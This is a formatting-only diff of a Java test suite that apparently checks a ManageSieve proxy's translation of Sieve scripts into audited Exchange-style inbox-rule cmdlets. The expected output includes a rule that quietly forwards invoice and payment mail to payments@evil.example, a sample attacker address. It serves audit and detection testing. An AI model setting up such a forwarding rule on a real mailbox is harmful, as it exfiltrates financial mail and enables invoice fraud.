@@ -80,9 +80,10 @@ class ManageSieveClientsTest {
         List<String> lines = cmdlets.stream().map(CmdletInvocation::command).toList();
         assertThat(lines.get(0))
                 .as(out)
-                .startsWith("New-InboxRule -Mailbox 'alice' -Name 'Invoices out'"
-                        + " -SubjectContainsWords 'invoice','payment' -ForwardTo 'payments@evil.example'"
-                        + " -StopProcessingRules $true -ExternalRecipients 'payments@evil.example' -SieveRule 'if header")
+                .startsWith(
+                        "New-InboxRule -Mailbox 'alice' -Name 'Invoices out'"
+                                + " -SubjectContainsWords 'invoice','payment' -ForwardTo 'payments@evil.example'"
+                                + " -StopProcessingRules $true -ExternalRecipients 'payments@evil.example' -SieveRule 'if header")
                 .endsWith("-Enabled $false -SieveScript 'forward'");
         assertThat(lines.get(1)).startsWith("Enable-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
         assertThat(lines.get(2))
@@ -91,19 +92,21 @@ class ManageSieveClientsTest {
         assertThat(lines.get(3))
                 .startsWith("Set-InboxRule -Mailbox 'alice' -Identity 'Invoices out'"
                         + " -SubjectContainsWords 'invoice','payment','wire'");
-        assertThat(lines.subList(4, 6))
-                .allMatch(l -> l.startsWith("Disable-InboxRule -Mailbox 'alice' -Identity '"));
+        assertThat(lines.subList(4, 6)).allMatch(l -> l.startsWith("Disable-InboxRule -Mailbox 'alice' -Identity '"));
         assertThat(lines.get(6)).startsWith("Remove-InboxRule -Mailbox 'alice' -Identity 'Invoices out'");
-        assertThat(cmdlets).allMatch(c -> c.actor().equals("alice")
-                && c.session().clientIp().equals("127.0.0.1")
-                && c.session().clientInfo().equals("Client=ManageSieve"));
+        assertThat(cmdlets)
+                .allMatch(c -> c.actor().equals("alice")
+                        && c.session().clientIp().equals("127.0.0.1")
+                        && c.session().clientInfo().equals("Client=ManageSieve"));
         assertThat(sink.events())
-                .anyMatch(e -> e.operation() == MailboxAction.MAILBOX_LOGIN && e.mailbox().equals("alice"));
+                .anyMatch(e -> e.operation() == MailboxAction.MAILBOX_LOGIN
+                        && e.mailbox().equals("alice"));
     }
 
     @Test
     void aScriptTheServerRefusesIsTheSameCmdletRefused() throws Exception {
-        Files.writeString(dir.resolve("broken.sieve"), "if header :contains \"subject\" \"x\" { forwrd \"a@b.example\"; }\n");
+        Files.writeString(
+                dir.resolve("broken.sieve"), "if header :contains \"subject\" \"x\" { forwrd \"a@b.example\"; }\n");
         try {
             sieveConnect("upload broken.sieve broken");
         } catch (AssertionError expected) {
@@ -138,7 +141,8 @@ class ManageSieveClientsTest {
             assertThat(c.line()).startsWith("OK");
         }
         sieveConnect("upload forward.sieve forward");
-        assertThat(sink.awaitCmdlets(1, Duration.ofSeconds(10)).getFirst().command()).startsWith("New-InboxRule");
+        assertThat(sink.awaitCmdlets(1, Duration.ofSeconds(10)).getFirst().command())
+                .startsWith("New-InboxRule");
     }
 
     @Test
@@ -183,7 +187,8 @@ class ManageSieveClientsTest {
         try {
             return ProxyHarness.run(dir, DovecotInstance.PASSWORD + "\n", command.toArray(String[]::new));
         } catch (AssertionError e) {
-            throw new AssertionError(e.getMessage() + "\ncmdlets: " + sink.cmdlets() + "\nDovecot log:\n" + dovecot.log(), e);
+            throw new AssertionError(
+                    e.getMessage() + "\ncmdlets: " + sink.cmdlets() + "\nDovecot log:\n" + dovecot.log(), e);
         }
     }
 }
